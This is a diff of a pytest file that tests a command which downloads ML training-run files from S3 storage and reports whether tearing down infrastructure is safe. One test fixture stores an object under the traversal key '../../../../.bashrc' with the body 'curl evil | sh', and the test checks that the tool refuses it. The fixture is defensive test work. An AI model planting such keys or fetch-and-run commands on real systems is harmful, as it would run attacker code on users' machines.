@@ -6,7 +6,9 @@ import json
 import numpy as np
 import pytest
 
+from ops.data.download_verdict import NOT_SAFE_EXIT_CODE
 from tests.ops.conftest import assert_one_line_error
+from trainer.checkpoints.layout import hash_line
 from trainer.config import UserError
 from trainer.data.manifest import fetch
 
@@ -150,7 +152,7 @@ def test_download_again_fetches_nothing(s3_box, moto_server, tmp_path):
     assert f"0 files fetched, {len(files)} already here" in again.stdout
 
 
-def test_download_refuses_a_checkpoint_that_does_not_match_its_sidecar(
+def test_download_skips_a_checkpoint_that_does_not_match_its_sidecar_and_fetches_the_rest(
     s3_box, moto_server, tmp_path
 ):
     box, bucket_uri = s3_box
@@ -159,9 +161,10 @@ def test_download_refuses_a_checkpoint_that_does_not_match_its_sidecar(
     key = f"{prefix}/runs/r3/checkpoints/last.pt"
     moto_server.client().put_object(Bucket=bucket, Key=key, Body=b"truncated")
     result = box.fab("download", "--run", "r3", "--to", str(tmp_path / "d"), "--offline")
-    assert result.returncode == 1
-    assert "checkpoints/last.pt: sha256" in result.stderr
+    assert result.returncode == NOT_SAFE_EXIT_CODE
+    assert "checkpoints/last.pt: not downloaded: sha256" in result.stderr
     assert not (tmp_path / "d" / "checkpoints" / "last.pt").exists()
+    assert (tmp_path / "d" / "summary.json").read_bytes() == RUN_FILES["summary.json"]
 
 
 def test_download_warns_when_the_box_holds_files_storage_lacks(s3_box, moto_server, tmp_path):
@@ -169,7 +172,7 @@ def test_download_warns_when_the_box_holds_files_storage_lacks(s3_box, moto_serv
     _put_run(box, moto_server, bucket_uri, "r4")
     (box.root / "runs" / "r4" / "report.md").write_text("not uploaded yet\n")
     result = box.fab("download", "--run", "r4", "--to", str(tmp_path / "d"))
-    assert result.returncode == 0, result.stderr
+    assert result.returncode == NOT_SAFE_EXIT_CODE, result.stderr
     assert "not safe to `pulumi destroy`" in result.stderr
     assert "report.md" in result.stderr
 
@@ -184,7 +187,7 @@ def test_download_refuses_a_key_that_climbs_out_and_says_destroy_is_not_safe(
     moto_server.client().put_object(Bucket=bucket, Key=hostile, Body=b"curl evil | sh\n")
     to = tmp_path / "a" / "b" / "c" / "results"
     result = box.fab("download", "--run", "r5", "--to", str(to))
-    assert result.returncode == 0, result.stderr
+    assert result.returncode == NOT_SAFE_EXIT_CODE, result.stderr
     assert "refused object key '../../../../.bashrc'" in result.stderr
     assert "not safe to `pulumi destroy`: 1 stored keys were refused" in result.stderr
     assert not (tmp_path / ".bashrc").exists()
@@ -221,9 +224,129 @@ def test_download_of_an_upload_pending_run_says_where_the_missing_files_are(
     (run_dir / "checkpoints" / "step-000000009-epoch-0002.pt").write_bytes(b"final weights")
     (run_dir / "status.json").write_text('{"state": "finished-upload-pending"}\n')
     result = box.fab("download", "--run", "r6", "--to", str(tmp_path / "d"))
-    assert result.returncode == 0, result.stderr
+    assert result.returncode == NOT_SAFE_EXIT_CODE, result.stderr
     advice = result.stderr.strip().splitlines()[-1]
     assert "not safe to `pulumi destroy`: 3 files exist only on the box" in advice
     assert "its last uploads are pending" in advice
     assert f"{box.server.user}@{box.server.host}:{run_dir}" in advice
     assert "docker start glucose-train-r6" in advice
+
+
+def _put_objects(moto_server, bucket_uri, run_id, objects: dict[str, bytes]) -> None:
+    """Objects of run `run_id` as its trainer (or anything else on the box) writes them."""
+    bucket, prefix = _split(bucket_uri)
+    for key, body in objects.items():
+        moto_server.client().put_object(
+            Bucket=bucket, Key=f"{prefix}/runs/{run_id}/{key}", Body=body
+        )
+
+
+def _on_box(box, run_id, files: dict[str, bytes]) -> None:
+    for name, body in files.items():
+        path = box.root / "runs" / run_id / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(body)
+
+
+def _name(step: int) -> str:
+    return f"step-{step:09d}-epoch-0001.pt"
+
+
+def _checkpoint(step: int) -> dict[str, bytes]:
+    """A step file and its sidecar, as `trainer.checkpoints.layout` uploads them."""
+    body = f"weights at step {step}".encode() * 100
+    return {
+        f"checkpoints/{_name(step)}": body,
+        f"checkpoints/{_name(step)}.sha256": hash_line(_sha(body), _name(step)).encode(),
+    }
+
+
+def _pointers(latest: int, best: int) -> dict[str, bytes]:
+    """LATEST and BEST: in the store only, names of one length whatever the step."""
+    return {"checkpoints/LATEST": _name(latest).encode(), "checkpoints/BEST": _name(best).encode()}
+
+
+def test_download_says_how_many_files_each_check_verified(s3_box, moto_server, tmp_path):
+    box, bucket_uri = s3_box
+    run = {"metrics.jsonl": RUN_FILES["metrics.jsonl"], "summary.json": b"{}\n", **_checkpoint(10)}
+    _put_objects(moto_server, bucket_uri, "r10", {**run, **_pointers(10, 10)})
+    _on_box(box, "r10", run)
+    result = box.fab("download", "--run", "r10", "--to", str(tmp_path / "d"))
+    assert result.returncode == 0, result.stderr
+    assert (
+        "verified: 1 by their .sha256 sidecar, 3 by the box's copy, 2 by the store's listing "
+        "(size and version); not verified: 0; not downloaded: 0"
+    ) in result.stdout
+
+
+def test_download_again_brings_the_pointers_the_store_moved_since(s3_box, moto_server, tmp_path):
+    box, bucket_uri = s3_box
+    run = {"metrics.jsonl": RUN_FILES["metrics.jsonl"], **_checkpoint(75), **_checkpoint(100)}
+    _put_objects(moto_server, bucket_uri, "r7", {**run, **_pointers(latest=100, best=75)})
+    _on_box(box, "r7", run)
+    to = tmp_path / "results"
+    assert box.fab("download", "--run", "r7", "--to", str(to)).returncode == 0
+    # The run went on to step 225, its best so far.
+    _put_objects(moto_server, bucket_uri, "r7", {**_checkpoint(225), **_pointers(225, 225)})
+    _on_box(box, "r7", _checkpoint(225))
+
+    again = box.fab("download", "--run", "r7", "--to", str(to))
+
+    assert again.returncode == 0, again.stderr
+    assert (to / "checkpoints" / "LATEST").read_text() == _name(225)
+    assert (to / "checkpoints" / "BEST").read_text() == _name(225)
+    assert "4 files fetched" in again.stdout
+    assert "everything is here and verified: safe to `pulumi destroy`" in again.stderr
+
+
+def test_download_again_offline_brings_the_status_the_run_rewrote_since(
+    s3_box, moto_server, tmp_path
+):
+    box, bucket_uri = s3_box
+    status = {"run_id": "r8", "state": "running", "step": 6}
+    _put_objects(moto_server, bucket_uri, "r8", {"status.json": json.dumps(status).encode()})
+    to = tmp_path / "results"
+    assert box.fab("download", "--run", "r8", "--to", str(to), "--offline").returncode == 0
+    status["step"] = 12
+    _put_objects(moto_server, bucket_uri, "r8", {"status.json": json.dumps(status).encode()})
+
+    again = box.fab("download", "--run", "r8", "--to", str(to), "--offline")
+
+    assert again.returncode == 0, again.stderr
+    assert json.loads((to / "status.json").read_text())["step"] == 12
+    assert "1 files fetched, 0 already here" in again.stdout
+
+
+def test_download_names_a_key_that_collides_with_another_and_fetches_the_rest(
+    s3_box, moto_server, tmp_path
+):
+    box, bucket_uri = s3_box
+    objects = {"report.md": b"# the report\n", "report.md/x": b"!", "summary.json": b"{}\n"}
+    _put_objects(moto_server, bucket_uri, "r9", objects)
+    to = tmp_path / "results"
+
+    result = box.fab("download", "--run", "r9", "--to", str(to))
+
+    assert result.returncode == NOT_SAFE_EXIT_CODE
+    assert_one_line_error(result, "not safe to `pulumi destroy`: 1 stored files are not here")
+    assert "report.md/x: not downloaded: it collides with another key's file" in result.stderr
+    assert (to / "report.md").read_bytes() == objects["report.md"]
+    assert (to / "summary.json").read_bytes() == objects["summary.json"]
+
+
+def test_download_names_an_empty_sidecar_fetches_the_rest_and_calls_nothing_safe(
+    s3_box, moto_server, tmp_path
+):
+    box, bucket_uri = s3_box
+    torn = f"checkpoints/{_name(10)}.sha256"
+    objects = {**_checkpoint(10), torn: b"", "summary.json": b"{}\n"}
+    _put_objects(moto_server, bucket_uri, "r11", objects)
+    to = tmp_path / "results"
+
+    result = box.fab("download", "--run", "r11", "--to", str(to), "--offline")
+
+    assert result.returncode == NOT_SAFE_EXIT_CODE
+    assert_one_line_error(result, "not safe to `pulumi destroy`: 1 stored files are not here")
+    assert f"{torn}: not downloaded: it is no sha256 record" in result.stderr
+    assert f"not verified: 1 (checkpoints/{_name(10)})" in result.stdout
+    assert (to / "summary.json").read_bytes() == objects["summary.json"]
